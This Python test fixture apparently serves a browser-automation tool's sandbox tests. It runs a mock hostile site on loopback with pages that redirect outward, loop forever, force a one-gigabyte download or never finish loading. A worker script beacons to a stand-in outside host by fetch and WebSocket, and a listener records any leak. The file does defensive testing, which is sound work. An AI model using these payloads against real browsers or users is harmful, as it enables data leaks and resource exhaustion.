"""A hostile site on loopback, and a place outside of its origin that notes every packet that reaches it."""

from __future__ import annotations

import asyncio
import contextlib
import socket
from collections.abc import Iterator, Mapping

from aiohttp import web

from turnwise.tools.browser.threads import LoopThread

_SAFE = "<!doctype html><html lang=en><title>Safe</title><h1>Safe page</h1><a href=/safe>Stay</a></html>"
_GIGABYTE = 2**30


class Hostile:
    """The site at ``origin``; ``outside`` is ``HOST:PORT`` of the other place. ``reached`` and ``asked`` are what
    came there (anything is a leak) and the paths that were asked for here; ``poured`` is how many MiB of a
    download were taken."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.origin = self.outside = ""
        self.reached: list[str] = []
        self.asked: list[str] = []
        self.poured = 0
        self._attacks = 0
        self._open = contextlib.AsyncExitStack()

    @property
    def names(self) -> Mapping[str, str]:
        """Placeholders that pages may write in their text."""
        host, _, port = self.origin.removeprefix("http://").partition(":")
        return {
            "{outside}": self.outside,
            "{port}": self.outside.partition(":")[2],
            "{here}": f"{host}:{port}",
        }

    def begin(self) -> None:
        """Forget what was seen; a download that an earlier attack left under way is broken off."""
        self.reached.clear()
        self.asked.clear()
        self.poured = 0
        self._attacks += 1

    async def start(self) -> None:
        application = web.Application()
        application.router.add_route("*", "/{path:.*}", self._answer)
        runner = web.AppRunner(application, access_log=None, shutdown_timeout=0.1, handler_cancellation=True)
        await runner.setup()
        self._open.push_async_callback(runner.cleanup)
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        self.origin = f"http://127.0.0.1:{runner.addresses[0][1]}"
        loop = asyncio.get_running_loop()
        trap = await asyncio.start_server(self._caught, "0.0.0.0", 0)
        port = trap.sockets[0].getsockname()[1]
        where = ("0.0.0.0", port)
        datagrams, _ = await loop.create_datagram_endpoint(lambda: _Datagrams(self.reached), local_addr=where)
        self._open.callback(trap.close)
        self._open.callback(datagrams.close)
        with contextlib.suppress(OSError):  # a machine without IPv6
            six = await asyncio.start_server(self._caught, "::1", port, family=socket.AF_INET6)
            self._open.callback(six.close)
        self.outside = f"127.0.0.1:{port}"

    async def stop(self) -> None:
        await self._open.aclose()

    async def _caught(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reached.append("a connection")
        with contextlib.suppress(TimeoutError, OSError):
            async with asyncio.timeout(2):
                self.reached.append((await reader.read(200)).decode("latin-1"))
            writer.write(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\n\r\nhi")
            await writer.drain()
        writer.close()

    async def _answer(self, request: web.Request) -> web.StreamResponse:
        self.asked.append(request.path)
        kind, _, name = request.path.lstrip("/").partition("/")
        match kind:
            case "attack" if name in self.pages:
                return web.Response(text=self.filled(self.pages[name]), content_type="text/html")
            case "hop":  # some redirects here, the last one leads outside
                left = int(name) if name.isdigit() else 0
                to = f"/hop/{left - 1}" if left else f"http://{self.outside}/hopped"
                return web.Response(status=307 if left else 302, headers={"Location": to})
            case "loop":
                return web.Response(status=302, headers={"Location": f"/loop/{int(name or 0) + 1}"})
            case "script":
                return web.Response(text=self.filled(_SCRIPT), content_type="text/javascript")
            case "gigabyte":
                return await self._pour(request)
            case "drip":
                return await _drip(request)
            case "never":
                await asyncio.sleep(60)
                return web.Response(text="late")
            case "safe":
                return web.Response(text=_SAFE, content_type="text/html")
            case _:
                return web.Response(text="no such page", status=404)

    async def _pour(self, request: web.Request) -> web.StreamResponse:
        """A gigabyte, as a file to be kept."""
        headers = {"Content-Disposition": "attachment; filename=big.bin", "Content-Length": str(_GIGABYTE)}
        answer = web.StreamResponse(headers=headers)
        await answer.prepare(request)
        attack = self._attacks
        with contextlib.suppress(OSError):
            for _ in range(_GIGABYTE // 2**20):
                await answer.write(bytes(2**20))
                if attack != self._attacks:
                    assert request.transport is not None
                    request.transport.abort()
                    break
                self.poured += 1
        return answer

    def filled(self, text: str) -> str:
        """A page's text with the addresses in it."""
        for name, value in self.names.items():
            text = text.replace(name, value)
        return text


_SCRIPT = """
const go = () => fetch("http://{outside}/from-worker", {mode: "no-cors"}).catch(() => 0);
go(); self.oninstall = self.onactivate = self.onconnect = self.onfetch = go;
try { new WebSocket("ws://{outside}/from-worker"); } catch {}
"""


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self, reached: list[str]) -> None:
        self._reached = reached

    def datagram_received(self, data: bytes, addr: object) -> None:
        self._reached.append(f"a datagram of {len(data)} bytes")


async def _drip(request: web.Request) -> web.StreamResponse:
    """A page that never ends."""
    answer = web.StreamResponse(headers={"Content-Type": "text/html"})
    await answer.prepare(request)
    with contextlib.suppress(OSError):
        for number in range(600):
            await answer.write(f"<p>line {number}</p>".encode())
            await asyncio.sleep(0.1)
    return answer


@contextlib.contextmanager
def hostile_site() -> Iterator[Hostile]:
    """A running hostile site."""
    site, thread = Hostile(), LoopThread("hostile")
    thread.run(site.start(), 30)
    try:
        yield site
    finally:
        thread.run(site.stop(), 30)
        thread.close()
